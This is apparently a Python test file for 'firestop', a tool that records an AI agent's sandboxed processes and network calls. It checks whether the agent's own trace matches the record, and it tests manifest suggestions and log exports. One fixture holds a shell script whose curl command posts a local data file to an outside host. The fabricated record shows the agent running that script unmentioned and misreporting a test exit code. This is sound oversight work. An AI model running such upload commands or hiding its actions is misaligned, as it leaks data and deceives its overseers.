"""reconcile, suggest and the exports of log, on a record that was never run."""
import hashlib
import http.server
import json
import pathlib
import subprocess
import sys
import threading

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent / "lib"))
from firestop_test import CliTest, main  # noqa: E402

RUN = "20261129-100000-aaaaaa"
START = 1795982400000000
SCRIPT = b"#!/bin/sh\ncurl -d @data https://example.com\n"
MANIFEST = """firestop: 1
name: fix  # the tests
command: [agent]
capabilities: [shell]
egress:
  - host: api.example.com
  # nobody needs it
  - host: docs.example.com
"""


class Record:
    """Events as a Log would write them: chained, without a key."""

    def __init__(self, directory):
        self.directory, self.lines, self.previous = directory, [], "0" * 64
        (directory / "content").mkdir(parents=True)

    def event(self, vantage, kind, **data):
        seq = len(self.lines)
        line = json.dumps({"data": data, "kind": kind, "mono_us": seq * 1000, "prev": self.previous, "seq": seq,
                           "time": "2026-11-29T20:00:00.%06dZ" % seq, "vantage": vantage},
                          sort_keys=True, separators=(",", ":"))
        self.previous = hashlib.sha256(line.encode()).hexdigest()
        self.lines.append(line)

    def exec(self, pid, parent, *argv, **more):
        self.event("guest", "process.exec", **{"pid": pid, "parent": parent, "at_us": START + len(self.lines), "uid": 1000,
                                               "gid": 1000, "file": argv[0], "image": True, "argv": list(argv),
                                               "argc": len(argv), "cut": False, "cwd": "/workspace", **more})

    def exit(self, pid, status=0):
        self.event("guest", "process.exit", pid=pid, at_us=START + len(self.lines), status=status, user_us=1, system_us=1,
                   max_rss_kib=1)

    def code(self, pid, how, path, content):
        digest = hashlib.sha256(content).hexdigest()
        folder = self.directory / "content" / digest[:2]
        folder.mkdir(exist_ok=True)
        (folder / digest).write_bytes(content)
        self.event("guest", "code", pid=pid, at_us=START, how=how, path=path, interpreter="/bin/sh", digest=digest,
                   size=len(content), kept=len(content), writer=10, note="")

    def write(self):
        (self.directory / "events.jsonl").write_text("".join(line + "\n" for line in self.lines))


class Receiver(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        body = self.rfile.read(int(self.headers["Content-Length"]))
        self.server.got.append((self.path, dict(self.headers), json.loads(body)))
        status = self.server.answers.pop(0) if self.server.answers else 200
        self.send_response(status)
        if status == 503:
            self.send_header("Retry-After", "0")
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"{}")

    def log_message(self, *arguments):
        pass


class AccountTest(CliTest):
    def setUp(self):
        super().setUp()
        self.make_run(RUN)
        self.place = self.run_directory(RUN)
        (self.place / "manifest.yaml").write_text(MANIFEST)
        record = Record(self.place / "evidence")
        record.event("host", "record.begin", format=1, run=RUN, name="fix", manifest_digest="a" * 64, key="k", version="0.4")
        record.event("host", "run.plan", command=["agent"])
        record.exec(10, 1, "/usr/bin/agent")
        record.exec(20, 10, "/bin/sh", "/tmp/x.sh")
        record.code(20, "argument", "/tmp/x.sh", SCRIPT)
        record.exit(20)
        record.exec(30, 10, "/bin/bash", "-lc", "make test")
        record.exec(31, 30, "/usr/bin/make", "test")
        record.event("host", "network.request", verdict="denied", code="egress.no_rule", host="x.example.com", scheme="https",
                     port=443, method="GET", path="/a", pid=31, started_us=START)
        record.event("host", "network.request", verdict="allowed", rule="egress[0]", host="api.example.com", scheme="https",
                     port=443, method="GET", path="/v1/a", pid=31, status=200, started_us=START)
        record.exit(31, 2 << 8)
        record.exit(30, 2 << 8)
        record.exit(10)
        record.event("guest", "collectors.done")
        record.event("host", "record.end", status=0, reason="")
        record.write()
        self.count = len(record.lines)

    def trace(self, *entries):
        path = pathlib.Path(self.work) / "trace.jsonl"
        path.write_text("".join(json.dumps(entry) + "\n" for entry in entries))
        return str(path)

    def test_reconcile(self):
        trace = self.trace({"command": "make test", "exit": 0}, {"command": "pytest"})
        run = self.firestop("reconcile", "fix", "--trace", trace, status=3)
        for words in ("Ran and never mentioned\n  /bin/sh /tmp/x.sh\n", hashlib.sha256(SCRIPT).hexdigest(),
                      "Claimed and never ran\n  pytest\n", "Claimed with another result\n  make test\n",
                      "claimed exit 0, recorded exit 2"):
            self.assertIn(words, run.stdout)
        found = json.loads(self.firestop("reconcile", "fix", "--trace", trace, "--json", status=3).stdout)
        self.assertEqual([each["kind"] for each in found["findings"]], ["never_mentioned", "never_ran", "other_result"])
        self.assertEqual(found["findings"][0]["code"][0]["path"], "/tmp/x.sh")
        # A record that was carried elsewhere, by its directory.
        self.firestop("reconcile", str(self.place / "evidence"), "--trace", trace, status=3)
        honest = self.trace({"command": "sh /tmp/x.sh", "exit": 0}, {"command": "make test", "exit": 2})
        self.assertIn("agree", self.firestop("reconcile", "fix", "--trace", honest).stdout)

    def test_reconcile_without_a_trace(self):
        self.firestop("reconcile", "fix", status=240)
        self.assert_json_error(("reconcile", "fix", "--trace", "/nowhere", "--json"), "trace.unreadable", 242)
        self.assert_json_error(("reconcile", "fix", "--trace", self.trace({"a": 1}), "--json"), "trace.unknown", 240)
        self.assert_json_error(("reconcile", "none", "--trace", self.trace({"a": 1}), "--json"), "run.not_found", 240)

    def test_suggest(self):
        text = self.firestop("suggest", "fix").stdout
        self.assertIn("-  # nobody needs it\n-  - host: docs.example.com\n", text)
        self.assertIn("+    paths: [/v1/a]\n", text)
        self.assertIn("make test: GET https://x.example.com/a  egress.no_rule, 1 time", text)
        found = json.loads(self.firestop("suggest", "fix", "--json").stdout)
        manifest = pathlib.Path(self.work) / "firestop.yaml"
        manifest.write_text(found["manifest"])
        self.firestop("check", str(manifest))
        self.assertIn("name: fix  # the tests\n", found["manifest"])
        manifest.write_text(MANIFEST)
        subprocess.run(["patch", "-s", str(manifest)], input=text, text=True, check=True)
        self.assertEqual(manifest.read_text(), found["manifest"])

    def test_ocsf(self):
        lines = self.firestop("log", "fix", "--format", "ocsf").stdout.splitlines()
        self.assertEqual(len(lines), self.count)
        classes = [json.loads(line)["class_uid"] for line in lines]
        self.assertEqual(classes.count(1007), 8)
        self.assertEqual(classes.count(4002), 2)
        self.firestop("log", "fix", "--format", "ocsf", "--follow", status=240)

    def test_otlp(self):
        server = http.server.HTTPServer(("127.0.0.1", 0), Receiver)
        server.got, server.answers = [], [503]
        self.addCleanup(server.server_close)
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        self.addCleanup(thread.join)
        self.addCleanup(server.shutdown)
        address = "http://127.0.0.1:%d" % server.server_port
        self.env["OTEL_EXPORTER_OTLP_HEADERS"] = "Authorization=Bearer%20t,x-b=c"
        self.assertIn("%d events sent in 1 batch" % self.count, self.firestop("log", "fix", "--otlp", address).stdout)
        self.assertEqual(len(server.got), 2, "again after 503")
        path, headers, body = server.got[1]
        self.assertEqual(path, "/v1/logs")
        self.assertEqual(headers["Content-Type"], "application/json")
        self.assertEqual((headers["Authorization"], headers["x-b"]), ("Bearer t", "c"))
        self.assertEqual(len(body["resourceLogs"][0]["scopeLogs"][0]["logRecords"]), self.count)
        server.answers = [400]
        self.assert_json_error(("log", "fix", "--otlp", address, "--json"), "otlp.refused", 242)
        self.firestop("log", "fix", "--otlp", "ftp://x", status=240)


if __name__ == "__main__":
    main()
